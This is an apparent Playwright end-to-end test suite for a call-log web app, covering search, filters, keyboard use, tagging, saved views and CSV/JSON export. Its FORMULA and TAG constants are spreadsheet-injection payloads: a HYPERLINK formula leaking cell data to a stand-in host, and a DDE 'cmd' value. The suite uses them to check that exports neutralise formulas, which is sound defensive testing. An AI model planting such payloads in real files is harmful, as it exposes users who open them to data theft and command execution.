// The list of calls: found, gone through, chosen, tagged, kept as views and as files.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { ask, calls, look, open, welcome } from './browser.mjs';
import { longestReply } from './words.mjs';

/** What a spreadsheet would reckon with, as names and as tags. */
const FORMULA = '=HYPERLINK("http://x.example/?"&A1,"Ada, here")';
const TAG = '@SUM(1+1)*cmd|"/C calc"!A0';
let on;
let page;
/** The ids of all there are: one that was misheard was called again. */
let all;

before(async () => {
  all = (await ask('/call?fields=summary')).rows.map(({ id }) => id);
  on = await open();
  page = on.page;
  await page.goto(welcome);
  await page.getByRole('link', { name: 'Later' }).click();
  await page.getByRole('navigation', { name: 'Main menu' }).waitFor();
});
after(async () => {
  await on?.browser.close();
});

const heading = (name) => page.getByRole('heading', { level: 1, name });
const rows = () => page.getByRole('table', { name: 'Calls' }).getByRole('row');
const row = (id) => rows().filter({ has: page.locator(`a[href$="${id}"]`) });
const idOf = (what) => calls.find((call) => call.is === what).id;
const counted = (text) => page.getByRole('status').getByText(text, { exact: true }).waitFor();

test('calls are found by words, by filters and by their address', async () => {
  await page.goto('/app/calls');
  await rows().nth(all.length).waitFor();
  await look(page, 'calls');
  const { words } = await longestReply(idOf('rescheduled'));
  await page.getByLabel('Search calls').fill(words.toLowerCase());
  await page.getByLabel('Search calls').press('Enter');
  await page.waitForURL((url) => url.searchParams.get('words') === words.toLowerCase());
  await row(idOf('rescheduled')).waitFor();
  await row(idOf('busy')).waitFor({ state: 'detached' });
  await page.goto('/app/calls?status=BUSY');
  await counted('1 of 1 calls');
  await page.getByRole('button', { name: 'Take away the filter Status' }).click();
  await page.waitForURL((url) => !url.search.includes('status'));
  await page.goto('/app/calls?words=nobodysaidthis');
  await page.getByText('No call fits').waitFor();
  await look(page, 'calls-none');
  await page.getByRole('button', { name: 'Clear all filters' }).click();
  await rows().nth(2).waitFor();
  await page.getByRole('button', { name: 'Add a filter' }).click();
  await page.getByRole('button', { name: 'Whose doing' }).click();
  await look(page, 'calls-filter');
  await page.keyboard.press('Escape');
});

test('calls are gone through by keys alone', async () => {
  await page.goto('/app/calls');
  await rows().nth(2).waitFor();
  await page.keyboard.press('j');
  await page.keyboard.press('j');
  await page.keyboard.press('k');
  await page.keyboard.press('Space');
  await page.getByRole('complementary', { name: 'The call in short' }).waitFor();
  await look(page, 'calls-peek');
  await page.keyboard.press('Escape');
  await page.getByRole('complementary').waitFor({ state: 'detached' });
  await page.keyboard.press('Enter');
  await page.waitForURL(/calls\/[0-9a-f-]{36}/);
  await page.keyboard.press('g');
  await page.keyboard.press('a');
  await heading('Agents').waitFor();
  await page.keyboard.press('?');
  await page.getByRole('dialog', { name: 'Keys that work here' }).waitFor();
  await look(page, 'keys');
  await page.keyboard.press('Escape');
  await page.keyboard.press('Control+k');
  await page.getByPlaceholder('Search or do something').fill('history');
  await page.getByText('All calls, newest first').waitFor();
  await look(page, 'palette');
  await page.keyboard.press('Enter');
  await heading('Calls').waitFor();
});

const chosen = (count) => page.getByRole('region', { name: `${count} chosen`, exact: true });
const boxes = () => page.getByRole('checkbox', { name: /^Choose the call with/ });
const tagsOf = async (id) => (await ask(`/call/${id}`)).tags;

test('calls are chosen one by one, by keys, in a row and all at once', async () => {
  await page.goto('/app/calls');
  await rows().nth(all.length).waitFor();
  await boxes().first().click();
  await chosen('1 call').waitFor();
  await boxes()
    .nth(all.length - 1)
    .click({ modifiers: ['Shift'] });
  await chosen(`${all.length} calls`).waitFor();
  await page.getByRole('button', { name: 'Choose none' }).click();
  await chosen(`${all.length} calls`).waitFor({ state: 'detached' });
  await page.getByRole('checkbox', { name: 'Choose all calls shown' }).click();
  await chosen(`${all.length} calls`).waitFor();
  await page.getByRole('checkbox', { name: 'Choose all calls shown' }).click();
  await chosen(`${all.length} calls`).waitFor({ state: 'detached' });
  await heading('Calls').focus();
  await page.keyboard.press('j');
  await page.keyboard.press('x');
  await chosen('1 call').waitFor();
  assert.ok(await boxes().first().isChecked());
});

test('chosen calls get a tag; it is a filter, and is taken away and given back', async () => {
  const { contact, phone_number } = await ask(`/call/${idOf('busy')}`);
  await ask('/contact/create', { phone_number, name: FORMULA });
  await page.goto('/app/calls?status=BUSY');
  await page.getByRole('checkbox', { name: `Choose the call with ${FORMULA}` }).click();
  const bar = chosen('1 call');
  await bar.getByRole('button', { name: 'Tag' }).click();
  const form = page.getByRole('dialog', { name: 'Tag' });
  await form.getByLabel('Tag').fill(TAG);
  await page.keyboard.press('Enter');
  await bar.getByText(`1 call has the tag ${TAG}.`).waitFor();
  assert.deepEqual(await tagsOf(idOf('busy')), [TAG]);
  assert.equal((await ask(`/contact/${contact.id}`)).name, FORMULA);
  await bar.getByRole('button', { name: 'Undo' }).click();
  await bar.getByText(`1 call has the tag ${TAG}.`).waitFor({ state: 'detached' });
  assert.deepEqual(await tagsOf(idOf('busy')), []);
  await bar.getByRole('button', { name: 'Tag' }).click();
  await form.getByLabel('Tag').fill(TAG);
  await form.getByRole('button', { name: 'Add the tag' }).click();
  await rows().getByRole('button', { name: TAG, exact: true }).waitFor();
  await bar.getByRole('button', { name: 'Tag' }).click();
  await form.getByRole('button', { name: `Take away the tag ${TAG}` }).waitFor();
  await look(page, 'calls-chosen');
  await form.getByRole('button', { name: `Take away the tag ${TAG}` }).click();
  await bar.getByText(`The tag ${TAG} was taken from 1 call.`).waitFor();
  assert.deepEqual(await tagsOf(idOf('busy')), []);
  await bar.getByRole('button', { name: 'Undo' }).click();
  await rows().getByRole('button', { name: TAG, exact: true }).click();
  await page.waitForURL((url) => url.searchParams.get('tag') === TAG);
  await counted('1 of 1 calls');
});

/** The lines of CSV (RFC 4180), each by the names of its columns. */
function lines(text) {
  const [names, ...cells] = text
    .replace(/^\uFEFF/, '')
    .match(/(?:"(?:[^"]|"")*"|[^"\r\n])+(?=\r\n)/g)
    .map((line) =>
      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
        ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain,
      ),
    );
  return cells.map((line) => Object.fromEntries(line.map((cell, i) => [names[i], cell])));
}
/** What the browser saves when this is done. */
async function saved(deed) {
  const [download] = await Promise.all([page.waitForEvent('download'), deed()]);
  return {
    name: download.suggestedFilename(),
    text: readFileSync(await download.path(), 'utf8'),
  };
}
const exported = async (within, form) => {
  await within.getByRole('button', { name: 'Export' }).click();
  return saved(() => page.getByRole('menuitem', { name: form }).click());
};

test('what is shown or chosen is saved as a file, in which no formula works', async () => {
  await page.goto('/app/calls');
  await rows().nth(all.length).waitFor();
  const shown = await exported(page.locator('header'), /CSV/);
  assert.match(shown.name, /^parley-calls-\d{4}-\d\d-\d\d\.csv$/);
  assert.ok(shown.text.startsWith('\uFEFF'), 'spreadsheets read it as something else');
  const table = lines(shown.text);
  assert.deepEqual(
    table.map(({ id }) => id),
    all,
  );
  const busy = table.find(({ id }) => id === idOf('busy'));
  assert.equal(busy.contact_name, `'${FORMULA}`);
  assert.equal(busy.tags, `'${TAG}`);
  assert.equal(busy.end_reason, 'busy');
  assert.deepEqual(
    table.flatMap(Object.values).filter((cell) => /^[=+\-@]\D/.test(cell)),
    [],
  );

  // What is chosen, for a program, is as it is.
  await page.getByRole('checkbox', { name: `Choose the call with ${FORMULA}` }).click();
  const some = await exported(chosen('1 call'), /JSON/);
  assert.match(some.name, /\.jsonl$/);
  const [only, rest] = some.text.split('\n');
  assert.equal(rest, '');
  const { id, contact, tags } = JSON.parse(only);
  assert.deepEqual([id, contact.name, tags], [idOf('busy'), FORMULA, [TAG]]);

  // By a key, what the filters leave.
  await page.goto('/app/calls?status=BUSY');
  await counted('1 of 1 calls');
  const left = lines((await saved(() => page.keyboard.press('e'))).text);
  assert.deepEqual(left, [busy]);
});

test('filters are kept under a name, found again by it, and deleted with a way back', async () => {
  await page.goto(`/app/calls?${new URLSearchParams({ tag: TAG, status: 'BUSY' })}`);
  await counted('1 of 1 calls');
  await page.getByRole('button', { name: 'Keep these filters' }).click();
  const form = page.getByRole('dialog', { name: 'Keep these filters' });
  await form.getByLabel('Name').fill('Busy formulas');
  await form.getByLabel('For the whole team').check();
  await look(page, 'calls-keep');
  await page.keyboard.press('Enter');
  const view = page.getByRole('link', { name: 'Busy formulas' });
  await view.and(page.locator('[aria-current=page]')).waitFor();
  const { views } = await ask('/view');
  assert.deepEqual(
    views.map(({ name, shared, filters }) => ({ name, shared, filters })),
    [{ name: 'Busy formulas', shared: true, filters: { tag: [TAG], status: ['BUSY'] } }],
  );
  await page.getByRole('link', { name: 'All', exact: true }).click();
  await rows().nth(all.length).waitFor();
  await page.goBack();
  await counted('1 of 1 calls');
  await page.goto('/app/calls');
  await view.click();
  await page.waitForURL((url) => url.searchParams.get('tag') === TAG);
  await counted('1 of 1 calls');
  await page.getByRole('button', { name: 'Delete the view Busy formulas' }).click();
  await page.getByText('The view Busy formulas is deleted.').waitFor();
  await view.waitFor({ state: 'detached' });
  await page.getByRole('button', { name: 'Undo' }).click();
  await view.waitFor();
  await page.getByRole('button', { name: 'Delete the view Busy formulas' }).click();
  await view.waitFor({ state: 'detached' });
  assert.deepEqual((await ask('/view')).views, []);
});

test('nothing went wrong that is not shown, and nobody else was asked', () => {
  assert.deepEqual(on.wrong, []);
});
